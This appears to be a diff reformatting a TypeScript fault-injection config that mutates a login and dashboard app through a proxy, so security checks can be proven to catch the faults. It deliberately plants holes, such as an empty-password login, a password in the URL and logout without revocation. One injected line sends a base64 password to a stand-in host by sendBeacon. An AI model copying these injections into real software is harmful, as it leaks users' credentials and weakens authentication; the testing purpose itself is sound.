@@ -1,5 +1,24 @@
 import {
-  addSetCookie, all, answerWith, configured, delay, dropHeader, editRequest, fromNth, inEnvironment, named, onlyNth, redirect, replaceInBody, reset, setBody, setField, setHeader, setStatus, when, type Proof,
+  addSetCookie,
+  all,
+  answerWith,
+  configured,
+  delay,
+  dropHeader,
+  editRequest,
+  fromNth,
+  inEnvironment,
+  named,
+  onlyNth,
+  redirect,
+  replaceInBody,
+  reset,
+  setBody,
+  setField,
+  setHeader,
+  setStatus,
+  when,
+  type Proof,
 } from '../../fixtures/proxy/faults.ts';
 
 const login = { to: 'login', method: 'POST' } as const;
@@ -10,13 +29,20 @@ const emptyLogin = JSON.stringify({ email: '', password: '' });
 const script = { path: /\/assets\/app\..*\.js$/ } as const;
 
 /** What Next's hot reload says when its socket does not open. */
-const hotReload = "console.error(\"WebSocket connection to 'ws://localhost:3000/_next/webpack-hmr' failed\");\n";
+const hotReload = 'console.error("WebSocket connection to \'ws://localhost:3000/_next/webpack-hmr\' failed");\n';
 
 /** The login's script reports `what` (an expression) to a foreign host, which the page's policy allows. */
-const reporting = (what: string) => all(
-  when(loginPage, dropHeader('Content-Security-Policy')),
-  when(script, replaceInBody("const answer = await call('/auth/login'", `navigator.sendBeacon('https://collect.example.test/seen', ${what}); const answer = await call('/auth/login'`)),
-);
+const reporting = (what: string) =>
+  all(
+    when(loginPage, dropHeader('Content-Security-Policy')),
+    when(
+      script,
+      replaceInBody(
+        "const answer = await call('/auth/login'",
+        `navigator.sendBeacon('https://collect.example.test/seen', ${what}); const answer = await call('/auth/login'`,
+      ),
+    ),
+  );
 
 export default {
   mutants: {
@@ -33,7 +59,10 @@ export default {
       // The login lies on a host of somebody else: nothing is typed there.
       when(loginPage, redirect('https://elsewhere.example.test/login')),
       when(dashboardData, setStatus(500)),
-      named("another user's data out of a cache", when({ to: 'me', status: 200 }, setField('email', 'somebody.else@example.test'))),
+      named(
+        "another user's data out of a cache",
+        when({ to: 'me', status: 200 }, setField('email', 'somebody.else@example.test')),
+      ),
       // The cookie is not sent, or its answer not shown, across hosts: only where web and API are two.
       inEnvironment('prod', when({ to: 'api' }, dropHeader('Access-Control-Allow-Credentials'))),
     ],
@@ -44,7 +73,10 @@ export default {
       fromNth(2, when(dashboardPage, redirect('/login'))),
       fromNth(3, when(dashboardPage, redirect('/login'))),
       // Somebody who is not signed in stays on an empty dashboard.
-      when({ ...dashboardPage, header: value => !value('cookie') }, setBody('<!doctype html><title>Dashboard</title><h1>Dashboard</h1>', 'text/html')),
+      when(
+        { ...dashboardPage, header: value => !value('cookie') },
+        setBody('<!doctype html><title>Dashboard</title><h1>Dashboard</h1>', 'text/html'),
+      ),
     ],
     'login-refusal': [
       configured({ 'AUTH.check_password': false }),
@@ -56,33 +88,60 @@ export default {
       // Whatever the API says, the page goes on to the dashboard, which sends the user back without a word.
       when(script, replaceInBody('if (answer.ok) return location.assign', 'if (answer.status) return location.assign')),
       // Nobody with an empty password: the page sends it, the API lets it in.
-      all(when(script, replaceInBody('if (empty) {', 'if (false) {')), when({ ...login, header: value => value('content-length') === String(emptyLogin.length) }, answerWith({ status: 200, body: { access_token: 'none' } }))),
+      all(
+        when(script, replaceInBody('if (empty) {', 'if (false) {')),
+        when(
+          { ...login, header: value => value('content-length') === String(emptyLogin.length) },
+          answerWith({ status: 200, body: { access_token: 'none' } }),
+        ),
+      ),
     ],
-    'logout': [
+    logout: [
       // The cookie stays and so does the access, since nothing revokes the token.
       configured({ 'COOKIE.logout_path': '/api', 'AUTH.revoke_on_logout': false }),
-      all(configured({ 'AUTH.revoke_on_logout': false }), when({ to: 'logout', method: 'POST' }, dropHeader('Set-Cookie'))),
+      all(
+        configured({ 'AUTH.revoke_on_logout': false }),
+        when({ to: 'logout', method: 'POST' }, dropHeader('Set-Cookie')),
+      ),
       when({ to: 'logout', method: 'POST' }, answerWith({ status: 500 })),
       // The page keeps showing the dashboard to whoever is signed out.
       when(script, replaceInBody('return toLogin()', 'return show({}, [])')),
     ],
     // Left out: a double submit that burns two attempts. It puts no password into an address; it needs a row of its own.
     'login-before-hydration': [
-      when(loginPage, all(replaceInBody('method="post"', 'method="get"'), replaceInBody('<button type="submit" disabled>', '<button type="submit">'))),
-      when(loginPage, all(replaceInBody('<form id="login" method="post" action="/login"', '<form id="login"'), replaceInBody('<button type="submit" disabled>', '<button type="submit">'))),
+      when(
+        loginPage,
+        all(
+          replaceInBody('method="post"', 'method="get"'),
+          replaceInBody('<button type="submit" disabled>', '<button type="submit">'),
+        ),
+      ),
+      when(
+        loginPage,
+        all(
+          replaceInBody('<form id="login" method="post" action="/login"', '<form id="login"'),
+          replaceInBody('<button type="submit" disabled>', '<button type="submit">'),
+        ),
+      ),
     ],
     'page-errors': [
       // A chunk of the old build, an error thrown by the page, a sub-resource over http.
       when({ path: /\/assets\/app\..*\.css$/ }, setStatus(404)),
       when(script, replaceInBody(/^/, 'setTimeout(() => { throw new Error("hydration failed"); });\n')),
       when({ path: /\/assets\/app\..*\.css$/ }, reset()),
-      when(script, replaceInBody(/^/, 'console.error("Hydration failed because the server rendered HTML did not match");\n')),
+      when(
+        script,
+        replaceInBody(/^/, 'console.error("Hydration failed because the server rendered HTML did not match");\n'),
+      ),
       // The page's own policy refuses a script of it.
       when(loginPage, replaceInBody('</main>', '<script>document.title = "inline"</script></main>')),
       // A development server where none should be: its hot reload finds no peer.
       when(script, replaceInBody(/^/, hotReload)),
       // The password travels in an address.
-      when(script, replaceInBody("call('/auth/login'", "call('/auth/login?password=' + encodeURIComponent(password.value)")),
+      when(
+        script,
+        replaceInBody("call('/auth/login'", "call('/auth/login?password=' + encodeURIComponent(password.value)"),
+      ),
       when(dashboardPage, replaceInBody('</main>', '<img src="http://images.example.test/logo.png" alt=""></main>')),
       // A recorder of sessions tells its own host what was typed.
       reporting("'typed=' + btoa(password.value)"),
@@ -90,9 +149,29 @@ export default {
   },
   // The same faults, seen by other rows in a whole run (`npm run prove -- --full`).
   also: {
-    'login-dashboard': ['auth-cookie-present', 'bearer-login', 'bearer-refusal', 'cookie-in-browser', 'cookie-not-on-http', 'cors-credentials', 'cors-in-browser', 'cors-native-client', 'cors-on-errors', 'cors-preflight', 'hsts', 'https-redirect', 'jwt-algorithm', 'jwt-clock', 'login-limit-hygiene', 'logout', 'page-errors', 'readyz-recovery', 'redirect-origin'],
+    'login-dashboard': [
+      'auth-cookie-present',
+      'bearer-login',
+      'bearer-refusal',
+      'cookie-in-browser',
+      'cookie-not-on-http',
+      'cors-credentials',
+      'cors-in-browser',
+      'cors-native-client',
+      'cors-on-errors',
+      'cors-preflight',
+      'hsts',
+      'https-redirect',
+      'jwt-algorithm',
+      'jwt-clock',
+      'login-limit-hygiene',
+      'logout',
+      'page-errors',
+      'readyz-recovery',
+      'redirect-origin',
+    ],
     'auth-guard': ['hsts', 'logout', 'private-pages-uncached'],
-    'logout': ['auth-guard', 'cookie-deletion', 'cors-allowed-origin', 'cors-credentials', 'cors-on-errors'],
+    logout: ['auth-guard', 'cookie-deletion', 'cors-allowed-origin', 'cors-credentials', 'cors-on-errors'],
     'page-errors': ['assets-load', 'mixed-content'],
   },
   variations: [
@@ -100,16 +179,48 @@ export default {
     reporting("'page=login'"),
     // A dashboard reached by a redirect of the login's own answer, or by a client's push without a load, is another web app than the reference's.
     when(loginPage, replaceInBody('</main>', '<a href="http://www.example.test/">About</a></main>')),
-    named('a form that posts by itself before its script runs', when(loginPage, replaceInBody('<button type="submit" disabled>', '<button type="submit">'))),
+    named(
+      'a form that posts by itself before its script runs',
+      when(loginPage, replaceInBody('<button type="submit" disabled>', '<button type="submit">')),
+    ),
     named('a slow first compile', when(dashboardPage, onlyNth(1, delay(600)))),
     named('a skeleton flashes', when({ to: 'api', path: /\/dashboard$/, method: 'GET' }, delay(200))),
-    named('the guard shows the login in place', when({ ...dashboardPage, header: value => !value('cookie') }, editRequest(r => { r.forward.path = r.site.paths['login page']; }))),
-    named('a refusal in general words', when(script, replaceInBody("'Email or password is wrong.'", "'Signing in did not work.'"))),
-    named('a logout that leads home', when(script, replaceInBody("location.replace('/login')", "location.replace('/')"))),
+    named(
+      'the guard shows the login in place',
+      when(
+        { ...dashboardPage, header: value => !value('cookie') },
+        editRequest(r => {
+          r.forward.path = r.site.paths['login page'];
+        }),
+      ),
+    ),
+    named(
+      'a refusal in general words',
+      when(script, replaceInBody("'Email or password is wrong.'", "'Signing in did not work.'")),
+    ),
+    named(
+      'a logout that leads home',
+      when(script, replaceInBody("location.replace('/login')", "location.replace('/')")),
+    ),
     inEnvironment('local', named('hot reload in local development', when(script, replaceInBody(/^/, hotReload)))),
-    named('a prefetch is given up', when(script, replaceInBody(/^/, 'const given = new AbortController(); fetch("/login", { signal: given.signal }).catch(() => undefined); given.abort();\n'))),
+    named(
+      'a prefetch is given up',
+      when(
+        script,
+        replaceInBody(
+          /^/,
+          'const given = new AbortController(); fetch("/login", { signal: given.signal }).catch(() => undefined); given.abort();\n',
+        ),
+      ),
+    ),
     // A headless browser asks for no icon by itself.
-    named('the favicon is missing', all(when({ path: '/favicon.ico' }, answerWith({ status: 404 })), when(loginPage, replaceInBody('</main>', '<img src="/favicon.ico" alt="" hidden></main>')))),
+    named(
+      'the favicon is missing',
+      all(
+        when({ path: '/favicon.ico' }, answerWith({ status: 404 })),
+        when(loginPage, replaceInBody('</main>', '<img src="/favicon.ico" alt="" hidden></main>')),
+      ),
+    ),
     when(dashboardData, setField('unknown_extra_field', 'ignored')),
     when(loginPage, setHeader('X-Powered-By', 'another server')),
   ],
